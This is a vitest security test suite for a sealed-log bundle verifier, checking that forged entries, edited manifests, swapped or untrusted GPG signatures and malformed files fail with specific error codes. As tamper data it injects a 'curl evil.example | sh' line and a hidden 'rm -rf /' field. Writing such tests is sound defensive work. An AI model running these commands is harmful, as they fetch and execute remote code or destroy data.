/**
 * Security: one case per attack on an exported bundle. The attacker holds a
 * copy of the bundle and can change any file in it, but has none of the
 * trusted private keys (except where a case says a key holder is the
 * attacker). `verify-chain BUNDLE --key ...` must fail with the documented
 * code and exit status, name the first bad seq where there is one, and never
 * print OK.
 *
 * The log under attack, build-vm/rel-1 (seal #1), has 15 entries:
 *   1 session-open, 2..6 lines, 7 session-close,
 *   8 session-open, 9..13 lines, 14 session-close, 15 seal.
 * build-vm/rel-2 is seal #2 of the same store; other-vm/rel-1 is seal #1 of
 * another log VM's store.
 */
import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_MANIFEST_BYTES, manifestBytes, type SealManifest } from '../../packages/shared/src/index.js';
import { MAX_ARMORED_BYTES } from '../../packages/shared/src/signatures.js';
import { callService, logvm, tempDir } from '../helpers.js';
import {
  EXIT,
  copyBundle,
  expectFailure,
  expectOk,
  gpgHome,
  logvmOk,
  readLines,
  readRecords,
  rehashFrom,
  verifyChain,
  writeLines,
  writeRecords,
  type GpgHome,
  type Rec,
} from './util.js';

const ALICE = 'Alice Release <alice@example.org>';
const BOB = 'Bob Release <bob@example.org>';
const MALLORY = 'Mallory <mallory@example.org>';

const tmp = tempDir('appendlog-seal-bundle-');
const dbA = join(tmp.dir, 'a.db');
const dbB = join(tmp.dir, 'b.db');
const bundle1 = join(tmp.dir, 'bundle-1');
const bundle2 = join(tmp.dir, 'bundle-2');
const otherBundle = join(tmp.dir, 'bundle-other');
const alicePub = join(tmp.dir, 'alice.asc');
const bobPub = join(tmp.dir, 'bob.asc');
const ENTRIES = 15;

let gpg: GpgHome;
let alice: string;
let bob: string;
let manifest1: SealManifest;
let attacks = 0;

/** A fresh copy of bundle-1 for one attack. */
function attack(src = bundle1): string {
  return copyBundle(src, join(tmp.dir, `attack-${++attacks}`));
}

const verifyAlice = (dir: string, ...more: string[]) => verifyChain([dir, '--key', alicePub, ...more]);
/** Both forms: the human one and --json (exit status, code and seq checked in each). */
const verifyAliceBoth = (dir: string, ...more: string[]) => verifyChain([dir, '--key', alicePub, ...more], { json: true });

function readManifest(dir: string): SealManifest {
  return JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8')) as SealManifest;
}

/** Rewrites manifest.json in canonical form, as a careful attacker would. */
function writeManifest(dir: string, m: SealManifest): void {
  writeFileSync(join(dir, 'manifest.json'), manifestBytes(m));
}

async function sessions(db: string, vm: string, name: string, n: number): Promise<void> {
  for (let s = 1; s <= n; s++) {
    const lines = Array.from({ length: 5 }, (_, i) => `${name} session ${s} line ${i + 1}: cc -c file${i}.c\n`).join('');
    const r = await callService(vm, name, db, { input: lines });
    expect(r.code, r.stderr).toBe(0);
  }
}

beforeAll(async () => {
  gpg = gpgHome();
  alice = await gpg.genKey(ALICE, 'ed25519');
  bob = await gpg.genKey(BOB, 'ed25519');
  await gpg.genKey(MALLORY, 'ed25519');
  await gpg.exportPublic(alice, alicePub);
  await gpg.exportPublic(bob, bobPub);

  await sessions(dbA, 'build-vm', 'rel-1', 2);
  await sessions(dbA, 'build-vm', 'rel-2', 1);
  await sessions(dbB, 'other-vm', 'rel-1', 1);
  for (const [db, ref, out] of [
    [dbA, 'build-vm/rel-1', bundle1],
    [dbA, 'build-vm/rel-2', bundle2],
    [dbB, 'other-vm/rel-1', otherBundle],
  ] as const) {
    await logvmOk(['seal', ref, '--signer', 'gpg:alice@example.org'], { db, env: gpg.env });
    await logvmOk(['export', ref, '--out', out, '--bundle-version', '1'], { db });
  }
  manifest1 = readManifest(bundle1);
});

afterAll(async () => {
  await gpg.cleanup();
  tmp.cleanup();
});

describe('the bundle under attack', () => {
  it('is seal #1 with 15 entries ending in the seal entry, and verifies with Alice\'s key', async () => {
    const recs = readRecords(bundle1);
    expect(recs.map((r) => r.kind)).toEqual([
      'session-open', 'line', 'line', 'line', 'line', 'line', 'session-close',
      'session-open', 'line', 'line', 'line', 'line', 'line', 'session-close', 'seal',
    ]);
    expect(manifest1).toMatchObject({ entries: ENTRIES, sealIndex: 1, prevSeal: null, lines: 10 });
    const o = await verifyAliceBoth(bundle1);
    expectOk(o);
    expect(o.result).toMatchObject({ entries: ENTRIES, head: manifest1.head, signatures: [{ fingerprint: alice }] });
  });
});

describe('when the entries are changed', () => {
  it('a changed line whose hash is kept fails with CHAIN_HASH_MISMATCH (exit 10) naming seq 10', async () => {
    const dir = attack();
    const recs = readRecords(dir);
    expect(recs[9]!.seq).toBe(10);
    recs[9] = { ...recs[9]!, text: recs[9]!.text!.replace('cc -c', 'curl evil.example | sh #') };
    writeRecords(dir, recs);
    expectFailure(await verifyAliceBoth(dir), 'CHAIN_HASH_MISMATCH', 10);
  });

  it('a changed line with every later hash recomputed fails with HEAD_MISMATCH (exit 13) at seq 15', async () => {
    const dir = attack();
    const recs = readRecords(dir);
    recs[9] = { ...recs[9]!, text: recs[9]!.text!.replace('file1', 'fileX') };
    const forged = rehashFrom(recs, 9);
    expect(forged[9]!.hash).not.toBe(recs[9]!.hash);
    expect(forged.at(-1)!.hash).not.toBe(manifest1.head);
    writeRecords(dir, forged);
    // The message shows both heads; the seq (the last entry) is in --json.
    expectFailure(await verifyAliceBoth(dir), 'HEAD_MISMATCH', ENTRIES, { seqInMessage: false });
  });

  it('a changed line with every hash and the manifest head rewritten fails with SIGNATURE_INVALID (exit 31)', async () => {
    const dir = attack();
    const recs = readRecords(dir);
    recs[9] = { ...recs[9]!, text: recs[9]!.text!.replace('file1', 'fileX') };
    const forged = rehashFrom(recs, 9);
    writeRecords(dir, forged);
    writeManifest(dir, { ...manifest1, head: forged.at(-1)!.hash });
    expectFailure(await verifyAlice(dir), 'SIGNATURE_INVALID');
  });

  it('the entries of another log under this manifest fail with CHAIN_HASH_MISMATCH (exit 10) at seq 1', async () => {
    const dir = attack();
    writeFileSync(join(dir, 'entries.jsonl'), readFileSync(join(bundle2, 'entries.jsonl')));
    expectFailure(await verifyAlice(dir), 'CHAIN_HASH_MISMATCH', 1);
  });

  it('a changed line (seq 3) before a malformed line (line 5) is the first failure: CHAIN_HASH_MISMATCH (exit 10) naming seq 3', async () => {
    const dir = attack();
    const lines = readLines(dir);
    lines[2] = lines[2]!.replace('line 2', 'line X');
    lines[4] = lines[4]!.slice(0, 30);
    writeLines(dir, lines);
    expectFailure(await verifyAlice(dir), 'CHAIN_HASH_MISMATCH', 3);
  });

  it('a changed line (seq 3) before swapped entries (seq 9 and 10) is the first failure: CHAIN_HASH_MISMATCH (exit 10) naming seq 3', async () => {
    const dir = attack();
    const lines = readLines(dir);
    lines[2] = lines[2]!.replace('line 2', 'line X');
    [lines[8], lines[9]] = [lines[9]!, lines[8]!];
    writeLines(dir, lines);
    expectFailure(await verifyAlice(dir), 'CHAIN_HASH_MISMATCH', 3);
  });
});

describe('when entries are removed, reordered, duplicated or added', () => {
  it('a truncated tail (last 3 lines dropped) fails with CHAIN_TRUNCATED (exit 12) naming seq 13', async () => {
    const dir = attack();
    writeLines(dir, readLines(dir).slice(0, -3));
    expectFailure(await verifyAliceBoth(dir), 'CHAIN_TRUNCATED', 13);
  });

  it('a dropped seal entry fails with CHAIN_TRUNCATED (exit 12) naming seq 15', async () => {
    const dir = attack();
    writeLines(dir, readLines(dir).slice(0, -1));
    expectFailure(await verifyAlice(dir), 'CHAIN_TRUNCATED', 15);
  });

  it('an empty entries.jsonl fails with CHAIN_TRUNCATED (exit 12) naming seq 1', async () => {
    const dir = attack();
    writeFileSync(join(dir, 'entries.jsonl'), '');
    expectFailure(await verifyAlice(dir), 'CHAIN_TRUNCATED', 1);
  });

  it('two swapped entries (seq 4 and 5) fail with SEQ_OUT_OF_ORDER (exit 11) naming seq 4', async () => {
    const dir = attack();
    const lines = readLines(dir);
    [lines[3], lines[4]] = [lines[4]!, lines[3]!];
    writeLines(dir, lines);
    expectFailure(await verifyAliceBoth(dir), 'SEQ_OUT_OF_ORDER', 4);
  });

  it('a duplicated entry (seq 4 twice) fails with SEQ_OUT_OF_ORDER (exit 11) naming seq 5', async () => {
    const dir = attack();
    const lines = readLines(dir);
    lines.splice(4, 0, lines[3]!);
    writeLines(dir, lines);
    expectFailure(await verifyAlice(dir), 'SEQ_OUT_OF_ORDER', 5);
  });

  it('a removed middle entry (seq 4) fails with SEQ_OUT_OF_ORDER (exit 11) naming seq 4', async () => {
    const dir = attack();
    const lines = readLines(dir);
    lines.splice(3, 1);
    writeLines(dir, lines);
    expectFailure(await verifyAlice(dir), 'SEQ_OUT_OF_ORDER', 4);
  });

  it('a correctly chained record appended after the seal fails with ENTRY_AFTER_SEAL (exit 14) naming seq 16', async () => {
    const dir = attack();
    const recs = readRecords(dir);
    const extra: Rec = { seq: 16, time: manifest1.sealed + 1, session: 2, kind: 'line', flags: 0, text: 'added after the seal', hash: '' };
    const forged = rehashFrom([...recs, extra], ENTRIES);
    writeRecords(dir, forged);
    expectFailure(await verifyAliceBoth(dir), 'ENTRY_AFTER_SEAL', 16);
  });
});

describe('when the manifest is edited', () => {
  it('a changed `lines`, still canonical, fails with SIGNATURE_INVALID (exit 31)', async () => {
    const dir = attack();
    writeManifest(dir, { ...manifest1, lines: manifest1.lines - 1 });
    const o = await verifyAliceBoth(dir);
    expectFailure(o, 'SIGNATURE_INVALID');
    expect(o.human.stderr).toContain(alice);
  });

  // 10^12 is a safe integer, so the manifest parses (not MANIFEST_INVALID);
  // signatures are checked before any entry is read (trust first), so an
  // unsigned claim ends at the signature: even a broken entries.jsonl is
  // never reached.
  it('a claim of 10^12 entries fails with SIGNATURE_INVALID (exit 31) before any entry is read', async () => {
    const dir = attack();
    writeManifest(dir, { ...manifest1, entries: 1e12 });
    writeFileSync(join(dir, 'entries.jsonl'), '{not json\n');
    expectFailure(await verifyAlice(dir), 'SIGNATURE_INVALID');
  });

  // A key holder who signs a lying manifest: the streaming verifier neither
  // allocates for nor waits on the claimed count; the chain just ends early.
  it('a claim of 10^12 entries signed by the trusted key fails with CHAIN_TRUNCATED (exit 12) naming seq 16', async () => {
    const dir = attack();
    writeManifest(dir, { ...manifest1, entries: 1e12 });
    await gpg.signDetached(alice, join(dir, 'manifest.json'), join(dir, 'signatures/01.asc'));
    const started = Date.now();
    expectFailure(await verifyAliceBoth(dir), 'CHAIN_TRUNCATED', 16);
    expect(Date.now() - started).toBeLessThan(15_000);
  });

  it.each([
    ['pretty-printed', (m: SealManifest) => `${JSON.stringify(m, null, 2)}\n`],
    ['keys not sorted', (m: SealManifest) => {
      const { vm, ...rest } = m;
      return `${JSON.stringify({ vm, ...rest })}\n`;
    }],
    ['without its final newline', (m: SealManifest) => JSON.stringify(JSON.parse(manifestBytes(m).toString('utf8')))],
    ['with an unknown field', (m: SealManifest) => manifestBytes({ ...m, comment: 'reviewed' } as SealManifest).toString('utf8')],
    ['with entries 1e400', (m: SealManifest) => manifestBytes(m).toString('utf8').replace(`"entries":${m.entries}`, '"entries":1e400')],
    ['with entries as a string', (m: SealManifest) => manifestBytes(m).toString('utf8').replace(`"entries":${m.entries}`, `"entries":"${m.entries}"`)],
    ['not JSON', () => 'this is not a manifest\n'],
  ])('a manifest %s fails with MANIFEST_INVALID (exit 21)', async (_what, make) => {
    const dir = attack();
    writeFileSync(join(dir, 'manifest.json'), make(manifest1));
    expectFailure(await verifyAliceBoth(dir), 'MANIFEST_INVALID');
  });
});

describe('when the signatures are attacked', () => {
  it('a bundle signed only by a key not given with --key fails with SIGNATURE_UNTRUSTED (exit 32)', async () => {
    expectFailure(await verifyChain([bundle1, '--key', bobPub], { json: true }), 'SIGNATURE_UNTRUSTED');
  });

  it('a signature replaced by one of an unknown key (Mallory) fails with SIGNATURE_UNTRUSTED (exit 32)', async () => {
    const dir = attack();
    writeManifest(dir, { ...manifest1, lines: 9 });
    await gpg.signDetached('mallory@example.org', join(dir, 'manifest.json'), join(dir, 'signatures/01.asc'));
    expectFailure(await verifyAlice(dir), 'SIGNATURE_UNTRUSTED');
  });

  it('a trusted key\'s signature taken from another seal fails with SIGNATURE_INVALID (exit 31)', async () => {
    const dir = attack();
    writeFileSync(join(dir, 'signatures/01.asc'), readFileSync(join(bundle2, 'signatures/01.asc')));
    expectFailure(await verifyAlice(dir), 'SIGNATURE_INVALID');
  });

  it('an empty signatures/ fails with SIGNATURE_MISSING (exit 30)', async () => {
    const dir = attack();
    rmSync(join(dir, 'signatures/01.asc'));
    expectFailure(await verifyAliceBoth(dir), 'SIGNATURE_MISSING');
  });

  it('a bundle without signatures/ fails with SIGNATURE_MISSING (exit 30)', async () => {
    const dir = attack();
    rmSync(join(dir, 'signatures'), { recursive: true });
    expectFailure(await verifyAlice(dir), 'SIGNATURE_MISSING');
  });
});

describe('when two signatures by distinct trusted keys are required (--threshold 2)', () => {
  const keysAB = () => ['--key', alicePub, '--key', bobPub, '--threshold', '2'];

  it('one valid signature fails with THRESHOLD_NOT_MET (exit 33)', async () => {
    expectFailure(await verifyChain([bundle1, ...keysAB()], { json: true }), 'THRESHOLD_NOT_MET');
  });

  it('after `logvm cosign` with Bob\'s key it says OK, listing both keys', async () => {
    const dir = attack();
    const c = await logvm(['cosign', dir, '--signer', 'gpg:bob@example.org', '--key', alicePub], { env: gpg.env });
    expect(c.code, c.stderr).toBe(0);
    expect(c.stdout.toString('utf8')).toContain('02.asc');
    const o = await verifyChain([dir, ...keysAB()], { json: true });
    expectOk(o);
    expect(o.result).toMatchObject({ threshold: 2 });
    expect((o.result!.signatures as Array<{ fingerprint: string }>).map((s) => s.fingerprint).sort()).toEqual([alice, bob].sort());
  });

  it('the same signature twice (01.asc copied to 02.asc) counts once: THRESHOLD_NOT_MET (exit 33)', async () => {
    const dir = attack();
    writeFileSync(join(dir, 'signatures/02.asc'), readFileSync(join(dir, 'signatures/01.asc')));
    expectFailure(await verifyChain([dir, ...keysAB()]), 'THRESHOLD_NOT_MET');
  });

  it('two distinct signatures by the same key count once: THRESHOLD_NOT_MET (exit 33)', async () => {
    const dir = attack();
    // A second, different signature by Alice (SHA-256 instead of the signer's SHA-512).
    const r = await gpg.gpg(['--yes', '-u', alice, '--digest-algo', 'SHA256', '-a', '-b', '-o', join(dir, 'signatures/02.asc'), join(dir, 'manifest.json')]);
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(join(dir, 'signatures/02.asc'), 'utf8')).not.toBe(readFileSync(join(dir, 'signatures/01.asc'), 'utf8'));
    expectFailure(await verifyChain([dir, ...keysAB()]), 'THRESHOLD_NOT_MET');
  });

  it('cosign with a key that already signed says so and adds no second signature of it (exit 0)', async () => {
    const dir = attack();
    const c = await logvm(['cosign', dir, '--signer', 'gpg:alice@example.org', '--key', alicePub], { env: gpg.env });
    expect(c.code, c.stderr).toBe(0);
    expect(c.stdout.toString('utf8')).toMatch(/already signed .*signatures\/01\.asc.*nothing added/);
    expect(() => readFileSync(join(dir, 'signatures/02.asc'))).toThrow();
  });

  it('cosign without --key or --first is a USAGE error (exit 2): it never signs unchecked', async () => {
    const dir = attack();
    const c = await logvm(['cosign', dir, '--signer', 'gpg:bob@example.org'], { env: gpg.env });
    expect(c.code, c.stderr).toBe(EXIT.USAGE);
    expect(c.stderr).toContain('--first');
    expect(() => readFileSync(join(dir, 'signatures/02.asc'))).toThrow();
  });

  it('cosign --first checks the chain only, signs, and says the signatures were not checked', async () => {
    const dir = attack();
    const c = await logvm(['cosign', dir, '--signer', 'gpg:bob@example.org', '--first'], { env: gpg.env });
    expect(c.code, c.stderr).toBe(0);
    expect(c.stdout.toString('utf8')).toContain('NOT checked (--first)');
    expectOk(await verifyChain([dir, ...keysAB()]));
  });

  it('cosign --key refuses a bundle whose existing signature is bad over the manifest (exit 31) and adds no signature', async () => {
    const dir = attack();
    // Alice's signature over other bytes, put where the bundle's signature is.
    const other = join(tmp.dir, `other-manifest-${attacks}`);
    writeFileSync(other, `${readFileSync(join(dir, 'manifest.json'), 'utf8')} `);
    await gpg.signDetached(alice, other, join(dir, 'signatures/01.asc'));
    const c = await logvm(['cosign', dir, '--signer', 'gpg:bob@example.org', '--key', alicePub], { env: gpg.env });
    expect(c.code, c.stderr).toBe(EXIT.SIGNATURE_INVALID);
    expect(() => readFileSync(join(dir, 'signatures/02.asc'))).toThrow();
  });

  it('a second signature by an unknown key does not count: THRESHOLD_NOT_MET (exit 33)', async () => {
    const dir = attack();
    await gpg.signDetached('mallory@example.org', join(dir, 'manifest.json'), join(dir, 'signatures/02.asc'));
    expectFailure(await verifyChain([dir, ...keysAB()]), 'THRESHOLD_NOT_MET');
  });

  it('one key file given twice is one trusted key: a threshold of 2 is a USAGE error (exit 2), not OK', async () => {
    const o = await verifyChain([bundle1, '--key', alicePub, '--key', alicePub, '--threshold', '2'], { json: true });
    expect(o.human.code).toBe(EXIT.USAGE);
    expect(o.human.stdout.toString()).not.toContain('OK');
    expect(o.result).toMatchObject({ ok: false, code: 'USAGE' });
  });

  it('cosign refuses a bundle whose chain was changed (exit 10) and adds no signature', async () => {
    const dir = attack();
    const recs = readRecords(dir);
    recs[2] = { ...recs[2]!, text: 'changed' };
    writeRecords(dir, recs);
    const c = await logvm(['cosign', dir, '--signer', 'gpg:bob@example.org', '--key', alicePub], { env: gpg.env });
    expect(c.code, c.stderr).toBe(EXIT.CHAIN_HASH_MISMATCH);
    expect(c.stderr).toContain('CHAIN_HASH_MISMATCH');
    expect(() => readFileSync(join(dir, 'signatures/02.asc'))).toThrow();
  });

  it('cosign on a bundle without signatures/ never ends in an INTERNAL error (exit 1) or a stack trace', async () => {
    const dir = attack();
    rmSync(join(dir, 'signatures'), { recursive: true });
    const c = await logvm(['cosign', dir, '--signer', 'gpg:bob@example.org'], { env: gpg.env });
    expect(c.code, c.stderr).not.toBe(1);
    expect(c.stderr).not.toMatch(/\n\s+at /);
    // Either a coded refusal, or the signature was added and the bundle now verifies with Bob's key.
    if (c.code === 0) expectOk(await verifyChain([dir, '--key', bobPub]));
    else expect(c.stderr).toMatch(/logvm cosign: [A-Z_]+: /);
  });

  it('cosign --key refuses a bundle not signed by those keys (exit 32) and adds no signature', async () => {
    const dir = attack();
    const c = await logvm(['cosign', dir, '--signer', 'gpg:bob@example.org', '--key', bobPub], { env: gpg.env });
    expect(c.code, c.stderr).toBe(EXIT.SIGNATURE_UNTRUSTED);
    expect(() => readFileSync(join(dir, 'signatures/02.asc'))).toThrow();
  });
});

describe('when a bundle file is malformed or hostile', () => {
  /** Replaces line 5 (seq 5) of entries.jsonl by `f(original line)`. */
  const line5 = (f: (l: string) => string) => (dir: string) => {
    const lines = readLines(dir);
    lines[4] = f(lines[4]!);
    writeLines(dir, lines);
  };
  const cases: Array<[string, (dir: string) => void | Promise<void>]> = [
    ['a broken JSON line', line5((l) => l.slice(0, 40))],
    ['seq 1e400', line5((l) => l.replace('"seq":5,', '"seq":1e400,'))],
    ['seq 99999999999999999999', line5((l) => l.replace('"seq":5,', '"seq":99999999999999999999,'))],
    ['seq -5', line5((l) => l.replace('"seq":5,', '"seq":-5,'))],
    ['seq 5.5', line5((l) => l.replace('"seq":5,', '"seq":5.5,'))],
    ['seq as a string', line5((l) => l.replace('"seq":5,', '"seq":"5",'))],
    ['time 2^64', line5((l) => l.replace(/"time":\d+,/, '"time":18446744073709551616,'))],
    ['an unknown field', line5((l) => l.replace('"flags":0,', '"flags":0,"note":"ok",'))],
    ['a missing hash', line5((l) => l.replace(/,"hash":"[0-9a-f]{64}"/, ''))],
    // docs/FORMAT.md 9.3 reader rule 9: "hash: 64 lowercase hex digits".
    ['an upper-case hash', line5((l) => l.replace(/"hash":"([0-9a-f]{64})"/, (_m, h: string) => `"hash":"${h.toUpperCase()}"`))],
    ['an unknown kind', line5((l) => l.replace('"kind":"line"', '"kind":"shell"'))],
    ['both text and base64', line5((l) => l.replace('"flags":0,', '"flags":0,"base64":"YQ==",'))],
    ['bad base64', line5((l) => l.replace(/"text":"(?:[^"\\]|\\.)*"/, '"base64":"!!not*base64"'))],
    ['non-canonical base64 (missing padding)', line5((l) => l.replace(/"text":"(?:[^"\\]|\\.)*"/, '"base64":"YQ"'))],
    ['a JSON array instead of an object', line5(() => '[5]')],
    ['an empty line between entries', line5((l) => `${l}\n`)],
    // A record with two "text" fields: JSON.parse keeps the last, other
    // parsers (and a human reading the file) may see the first. docs/FORMAT.md
    // 9.3 reader rule 4 allows "exactly seven members", so this must not verify.
    ['a field given twice (hidden text)', line5((l) => l.replace('"text":', '"text":"rm -rf / # hidden","text":'))],
    // split2's maxLength bounds a line without a newline, so an endless file ends in a coded error.
    ['entries.jsonl pointing at /dev/zero', (dir) => {
      rmSync(join(dir, 'entries.jsonl'));
      symlinkSync('/dev/zero', join(dir, 'entries.jsonl'));
    }],
    ['entries.jsonl missing', (dir) => rmSync(join(dir, 'entries.jsonl'))],
    ['manifest.json missing', (dir) => rmSync(join(dir, 'manifest.json'))],
    ['manifest.json pointing at /dev/zero', (dir) => {
      rmSync(join(dir, 'manifest.json'));
      symlinkSync('/dev/zero', join(dir, 'manifest.json'));
    }],
    ['manifest.json one byte over the manifest size limit', (dir) => writeFileSync(join(dir, 'manifest.json'), Buffer.alloc(MAX_MANIFEST_BYTES + 1, 0x20))],
    ['manifest.json a directory', (dir) => {
      rmSync(join(dir, 'manifest.json'));
      mkdirSync(join(dir, 'manifest.json'));
    }],
    ['a signature file that is not OpenPGP', (dir) => writeFileSync(join(dir, 'signatures/01.asc'), 'this is not a signature\n')],
    ['a signature file holding a public key', (dir) => writeFileSync(join(dir, 'signatures/01.asc'), readFileSync(alicePub))],
    ['a damaged armored signature', (dir) => {
      const p = join(dir, 'signatures/01.asc');
      const lines = readFileSync(p, 'utf8').split('\n');
      const i = lines.findIndex((l) => l === '') + 1; // first base64 line after the armor headers
      lines[i] = lines[i]!.replace(/^..../, '****');
      writeFileSync(p, lines.join('\n'));
    }],
    ['a signature file one byte over the size limit', (dir) => writeFileSync(join(dir, 'signatures/01.asc'), Buffer.alloc(MAX_ARMORED_BYTES + 1, 0x41))],
  ];

  it.each(cases)('%s fails with MALFORMED_BUNDLE (exit 20)', async (_what, damage) => {
    const dir = attack();
    await damage(dir);
    expectFailure(await verifyAlice(dir), 'MALFORMED_BUNDLE');
  });

  it('a broken line is named by its line number (entries.jsonl line 5)', async () => {
    const dir = attack();
    line5((l) => l.slice(0, 40))(dir);
    const o = await verifyAliceBoth(dir);
    expectFailure(o, 'MALFORMED_BUNDLE');
    expect(o.human.stderr).toContain('entries.jsonl line 5');
  });
});

describe('when the seal chain is checked with --previous', () => {
  it('seal #2 with the real seal #1 as --previous says OK', async () => {
    const o = await verifyAliceBoth(bundle2, '--previous', bundle1);
    expectOk(o);
    expect(o.result).toMatchObject({ sealIndex: 2, prevSeal: expect.stringMatching(/^[0-9a-f]{64}$/) });
  });

  it.each([
    ['seal #2 with itself as --previous', () => bundle2, () => bundle2],
    ['seal #1 with seal #2 as --previous', () => bundle1, () => bundle2],
    ['seal #2 with seal #1 of another log VM\'s store as --previous', () => bundle2, () => otherBundle],
  ])('%s fails with SEAL_CHAIN_BROKEN (exit 34)', async (_what, target, previous) => {
    expectFailure(await verifyAliceBoth(target(), '--previous', previous()), 'SEAL_CHAIN_BROKEN');
  });

  it('seal #1 with an edited copy of itself as --previous of seal #2 fails with SEAL_CHAIN_BROKEN (exit 34)', async () => {
    const prev = attack(bundle1);
    writeManifest(prev, { ...manifest1, lines: manifest1.lines + 1 });
    expectFailure(await verifyAlice(bundle2, '--previous', prev), 'SEAL_CHAIN_BROKEN');
  });
});

describe('when a --key file is not a usable key', () => {
  const cases: Array<[string, () => string]> = [
    ['a text file', () => {
      const p = join(tmp.dir, 'not-a-key.asc');
      writeFileSync(p, 'hello\n');
      return p;
    }],
    ['an empty file', () => {
      const p = join(tmp.dir, 'empty.asc');
      writeFileSync(p, '');
      return p;
    }],
    ['a signature', () => join(bundle1, 'signatures/01.asc')],
    ['a missing file', () => join(tmp.dir, 'no-such-key.asc')],
    ['a directory', () => tmp.dir],
  ];
  it.each(cases)('%s fails with KEY_INVALID (exit 35)', async (_what, key) => {
    expectFailure(await verifyChain([bundle1, '--key', key()]), 'KEY_INVALID');
  });

  it('a bad key next to a good one still fails with KEY_INVALID (exit 35)', async () => {
    const p = join(tmp.dir, 'garbage.asc');
    writeFileSync(p, '-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nAAAA\n-----END PGP PUBLIC KEY BLOCK-----\n');
    expectFailure(await verifyChain([bundle1, '--key', alicePub, '--key', p], { json: true }), 'KEY_INVALID');
  });
});

describe('when no --key is given', () => {
  it('verifying a bundle is a USAGE error (exit 2), never OK on unchecked signatures', async () => {
    const r = await logvm(['verify-chain', bundle1]);
    expect(r.code).toBe(EXIT.USAGE);
    expect(r.stdout.toString()).not.toContain('OK');
  });
});
